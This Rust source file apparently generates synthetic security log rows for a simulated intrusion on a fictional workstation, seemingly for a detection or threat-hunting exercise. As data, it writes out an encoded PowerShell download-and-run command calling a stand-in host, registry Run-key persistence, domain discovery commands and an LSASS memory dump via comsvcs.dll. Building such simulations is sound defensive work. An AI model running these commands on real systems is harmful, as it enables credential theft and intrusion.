//! The second victim's workstation.

use super::identity::SCRIPT_URL;
use crate::company::{Company, NT_DOMAIN, Person};
use crate::noise::endpoint::sha256;
use crate::sheets::{Cell, Sheets};

/// A process of the attack: id, program with folder, command line.
#[derive(Clone, Copy)]
struct Running {
    id: i64,
    folder: &'static str,
    file: &'static str,
    command: &'static str,
    /// Seconds of the attack's day at which it started.
    started: i64,
}

/// Where the payload calls home.
pub(super) const C2_IP: &str = "198.51.100.23";
/// Port of it.
pub(super) const C2_PORT: i64 = 8_443;

const EDGE: Running = Running {
    id: 7_204,
    folder: r"C:\Program Files (x86)\Microsoft\Edge\Application",
    file: "msedge.exe",
    command: r#""msedge.exe" --single-argument https://files.northwind-portal.example/Shipment_4471.js"#,
    started: super::hms(9, 52, 10),
};
const WSCRIPT: Running = Running {
    id: 8_816,
    folder: r"C:\Windows\System32",
    file: "wscript.exe",
    command: r#""wscript.exe" "C:\Users\jonas.weber\Downloads\Shipment_4471.js""#,
    started: super::hms(9, 53, 6),
};
/// The encoded text downloads and starts the payload:
/// `IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/u')`, Base64 over UTF-16LE.
const POWERSHELL: Running = Running {
    id: 9_120,
    folder: r"C:\Windows\System32\WindowsPowerShell\v1.0",
    file: "powershell.exe",
    command: "powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQA5ADgALgA1ADEALgAxADAAMAAuADIAMwAvAHUAJwApAA==",
    started: super::hms(9, 53, 9),
};
const PAYLOAD: Running = Running {
    id: 9_644,
    folder: r"C:\Users\jonas.weber\AppData\Roaming",
    file: "routesync.exe",
    command: r#""C:\Users\jonas.weber\AppData\Roaming\routesync.exe""#,
    started: super::hms(9, 53, 18),
};
const SHELL: Running = Running {
    id: 10_208,
    folder: r"C:\Windows\System32",
    file: "cmd.exe",
    command: "cmd.exe",
    started: super::hms(10, 7, 28),
};

pub(super) fn script_downloaded(sheets: &mut Sheets, company: &Company, at: i64) {
    let victim = company.second_victim();
    let mut cells = acting(victim, EDGE, "explorer.exe");
    cells.extend([
        ("ActionType", "FileCreated".into()),
        ("FileName", "Shipment_4471.js".into()),
        ("FolderPath", r"C:\Users\jonas.weber\Downloads\Shipment_4471.js".into()),
        ("FileOriginUrl", SCRIPT_URL.into()),
        ("FileOriginIP", "203.0.113.66".into()),
        ("SHA256", sha256("Shipment_4471.js").into()),
        ("FileSize", 18_204.into()),
    ]);
    sheets.row("DeviceFileEvents", at, &cells);
}

pub(super) fn script_run(sheets: &mut Sheets, company: &Company, at: i64) {
    let explorer = Running {
        id: 4_412,
        folder: r"C:\Windows",
        file: "explorer.exe",
        command: "explorer.exe",
        started: super::hms(6, 58, 0),
    };
    started(sheets, company.second_victim(), at, WSCRIPT, explorer);
}

pub(super) fn encoded_powershell(sheets: &mut Sheets, company: &Company, at: i64) {
    started(sheets, company.second_victim(), at, POWERSHELL, WSCRIPT);
    let mut cells = acting(company.second_victim(), POWERSHELL, WSCRIPT.file);
    cells.extend(connected(company.second_victim(), "198.51.100.23", 80));
    sheets.row("DeviceNetworkEvents", at + 800_000, &cells);
}

pub(super) fn payload_written(sheets: &mut Sheets, company: &Company, at: i64) {
    let mut cells = acting(company.second_victim(), POWERSHELL, WSCRIPT.file);
    cells.extend([
        ("ActionType", "FileCreated".into()),
        ("FileName", PAYLOAD.file.into()),
        (
            "FolderPath",
            r"C:\Users\jonas.weber\AppData\Roaming\routesync.exe".into(),
        ),
        ("SHA256", sha256(PAYLOAD.file).into()),
        ("FileSize", 412_672.into()),
    ]);
    sheets.row("DeviceFileEvents", at, &cells);
}

pub(super) fn payload_run(sheets: &mut Sheets, company: &Company, at: i64) {
    started(sheets, company.second_victim(), at, PAYLOAD, POWERSHELL);
}

/// A call home every minute until the attacker leaves.
pub(super) fn beacon(sheets: &mut Sheets, company: &Company, at: i64) {
    for minute in 0..60_i64 {
        let mut cells = acting(company.second_victim(), PAYLOAD, POWERSHELL.file);
        cells.extend(connected(company.second_victim(), C2_IP, C2_PORT));
        sheets.row("DeviceNetworkEvents", at + minute * 60_000_000, &cells);
    }
}

pub(super) fn run_key(sheets: &mut Sheets, company: &Company, at: i64) {
    let mut cells = acting(company.second_victim(), PAYLOAD, POWERSHELL.file);
    cells.extend([
        ("ActionType", "RegistryValueSet".into()),
        (
            "RegistryKey",
            r"HKEY_CURRENT_USER\SOFTWARE\Microsoft\Windows\CurrentVersion\Run".into(),
        ),
        ("RegistryValueName", "RouteSync".into()),
        ("RegistryValueType", "String".into()),
        ("RegistryValueData", PAYLOAD.command.into()),
    ]);
    sheets.row("DeviceRegistryEvents", at, &cells);
}

pub(super) fn discovery(sheets: &mut Sheets, company: &Company, at: i64) {
    let victim = company.second_victim();
    started(sheets, victim, at - 2_000_000, SHELL, PAYLOAD);
    let commands: [(&str, &str); 6] = [
        ("whoami.exe", "whoami /all"),
        ("systeminfo.exe", "systeminfo"),
        ("net.exe", r#"net group "Domain Admins" /domain"#),
        ("nltest.exe", "nltest /domain_trusts"),
        ("net.exe", "net view /all"),
        ("tasklist.exe", "tasklist /v"),
    ];
    for ((file, command), step) in commands.into_iter().zip(0_i64..) {
        let run = Running {
            id: 10_300 + step * 8,
            folder: r"C:\Windows\System32",
            file,
            command,
            started: super::hms(10, 7, 30 + step * 9),
        };
        started(sheets, victim, at + step * 9_000_000, run, SHELL);
    }
}

pub(super) fn credential_dump(sheets: &mut Sheets, company: &Company, at: i64) {
    let victim = company.second_victim();
    let dump = Running {
        id: 11_012,
        folder: r"C:\Windows\System32",
        file: "rundll32.exe",
        command: r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 712 C:\Users\Public\s.dmp full",
        started: super::hms(10, 26, 44),
    };
    started(sheets, victim, at, dump, SHELL);
    let mut cells = acting(victim, dump, SHELL.file);
    cells.extend([
        ("ActionType", "OpenProcessApiCall".into()),
        ("FileName", "lsass.exe".into()),
        ("FolderPath", r"C:\Windows\System32\lsass.exe".into()),
        ("ProcessId", 712.into()),
        ("AdditionalFields", r#"{"DesiredAccess":2097151}"#.into()),
    ]);
    sheets.row("DeviceEvents", at + 300_000, &cells);
    let mut cells = acting(victim, dump, SHELL.file);
    cells.extend([
        ("ActionType", "FileCreated".into()),
        ("FileName", "s.dmp".into()),
        ("FolderPath", r"C:\Users\Public\s.dmp".into()),
        ("FileSize", 58_310_144.into()),
    ]);
    sheets.row("DeviceFileEvents", at + 900_000, &cells);
}

fn started(sheets: &mut Sheets, person: &Person, at: i64, run: Running, parent: Running) {
    let mut cells = acting(person, parent, "");
    cells.extend([
        ("ActionType", "ProcessCreated".into()),
        ("FileName", run.file.into()),
        ("FolderPath", format!(r"{}\{}", run.folder, run.file).into()),
        ("SHA256", sha256(run.file).into()),
        ("ProcessId", run.id.into()),
        ("ProcessCommandLine", run.command.into()),
        ("ProcessCreationTime", Cell::Time(at)),
        ("ProcessIntegrityLevel", "Medium".into()),
        ("AccountName", (&person.name).into()),
        ("AccountDomain", NT_DOMAIN.into()),
        ("AccountSid", (&person.sid).into()),
        ("AccountUpn", (&person.upn).into()),
    ]);
    sheets.row("DeviceProcessEvents", at, &cells);
}

fn acting<'a>(person: &'a Person, run: Running, parent: &'static str) -> Vec<(&'static str, Cell<'a>)> {
    let mut cells: Vec<(&str, Cell<'_>)> = vec![
        ("DeviceId", (&person.device.id).into()),
        ("DeviceName", (&person.device.name).into()),
        ("InitiatingProcessFileName", run.file.into()),
        (
            "InitiatingProcessFolderPath",
            format!(r"{}\{}", run.folder, run.file).into(),
        ),
        ("InitiatingProcessCommandLine", run.command.into()),
        ("InitiatingProcessId", run.id.into()),
        ("InitiatingProcessCreationTime", Cell::Time(super::instant(run.started))),
        ("InitiatingProcessSHA256", sha256(run.file).into()),
        ("InitiatingProcessAccountName", (&person.name).into()),
        ("InitiatingProcessAccountDomain", NT_DOMAIN.into()),
        ("InitiatingProcessAccountUpn", (&person.upn).into()),
    ];
    if !parent.is_empty() {
        cells.push(("InitiatingProcessParentFileName", parent.into()));
    }
    cells
}

fn connected<'a>(person: &'a Person, address: &'static str, port: i64) -> [(&'static str, Cell<'a>); 6] {
    [
        ("ActionType", "ConnectionSuccess".into()),
        ("LocalIP", (&person.device.ip).into()),
        ("RemoteIP", address.into()),
        ("RemoteIPType", "Public".into()),
        ("RemotePort", port.into()),
        ("Protocol", "Tcp".into()),
    ]
}
